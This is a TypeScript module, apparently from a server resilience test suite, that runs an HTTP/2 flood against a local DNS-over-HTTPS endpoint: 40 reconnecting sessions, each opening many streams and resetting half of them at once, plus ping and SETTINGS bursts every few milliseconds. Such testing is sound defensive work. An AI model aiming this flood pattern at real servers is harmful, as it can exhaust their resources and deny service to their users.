/** HTTP/2: as many streams as there may be, half of them given up as soon as they are opened, and pings and settings between. */
import { connect } from 'node:http2';
import { dialTls, query } from './guest.ts';
import { type StrangerAttack, stranger } from './stranger.ts';

export const attack: StrangerAttack = {
  title: 'Streams of HTTP/2, resets and pings',
  innocents: 'tls',
  strike: ({ httpsPort }) => {
    const path = `/dns-query?dns=${query('www.static.example').subarray(2).toString('base64url')}`;
    const come = (index: number): void => {
      const session = connect(`https://127.0.0.1:${httpsPort}`, {
        createConnection: () => dialTls(httpsPort, index, 'h2'),
      });
      const ask = (isKept: boolean): void => {
        const stream = session
          .request({ ':path': path })
          .on('error', () => {})
          .resume();
        if (isKept) stream.on('close', () => session.destroyed || ask(true));
        else stream.close();
      };
      session.on('error', () => {}).on('close', () => setTimeout(come, 10, index));
      session.on('connect', () => {
        for (let count = 0; count < 90; count += 1) ask(count % 2 === 0);
        const more = setInterval(() => {
          if (session.destroyed) clearInterval(more);
          else {
            for (let count = 0; count < 20; count += 1) session.ping(() => {});
            session.settings({ enablePush: false });
            ask(false);
          }
        }, 5);
      });
    };
    for (let index = 0; index < 40; index += 1) come(index);
  },
};

if (import.meta.main) stranger(attack, import.meta.filename);
